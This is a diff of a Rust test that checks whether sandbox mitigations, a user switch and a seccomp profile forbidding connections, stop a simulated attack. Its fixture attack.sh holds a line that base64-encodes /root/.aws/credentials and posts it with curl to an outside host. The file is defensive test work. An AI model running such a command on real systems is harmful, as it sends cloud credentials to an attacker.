@@ -9,7 +9,7 @@ fn validation(control: &str) -> String {
 }
 
 #[test]
-fn it_is_prevented_by_what_hides_the_bait_or_forbids_connections_and_by_nothing_else() {
+fn it_is_prevented_by_what_denies_the_bait_or_connections_and_by_nothing_else() {
     if !["/usr/bin/curl", "/bin/curl"].iter().any(|curl| std::path::Path::new(curl).exists()) {
         eprintln!("skipped: no curl");
         return;
@@ -19,13 +19,22 @@ fn it_is_prevented_by_what_hides_the_bait_or_forbids_connections_and_by_nothing_
         place.write("attack.sh", "base64 -w0 /root/.aws/credentials | curl -s -m 9 --data-binary @- -o /dev/null http://203.0.113.9/; exit 0");
         place.write("twin.sh", "mkdir \"$HOME/d\"");
         place.write("profile.json", FORBIDS_CONNECT);
-        place.write("hides.yaml", &validation("{masked: /root/.aws}"));
+        place.write("denies.yaml", &validation("{user: user}"));
         place.write("forbids.yaml", &validation("{seccomp: profile.json}"));
         place.write("other.yaml", &validation("{read_only: /etc}"));
-        let said = place.validate(how, &["hides.yaml", "forbids.yaml", "other.yaml"]);
+        // an environment with one user id has nobody else to be
+        let files: &[&str] = if how.has_users() {
+            &["denies.yaml", "forbids.yaml", "other.yaml"]
+        } else {
+            &["forbids.yaml", "other.yaml"]
+        };
+        let said = place.validate(how, files);
         for (name, wanted) in
-            [("hides", "holds/prevented"), ("forbids", "holds/prevented"), ("other", "fails/goal_reached")]
+            [("denies", "holds/prevented"), ("forbids", "holds/prevented"), ("other", "fails/goal_reached")]
         {
+            if !files.iter().any(|file| file.starts_with(name)) {
+                continue;
+            }
             assert_eq!(said.answer(name, "mitigation"), wanted, "{how:?}: {}", said.stdout);
         }
     }
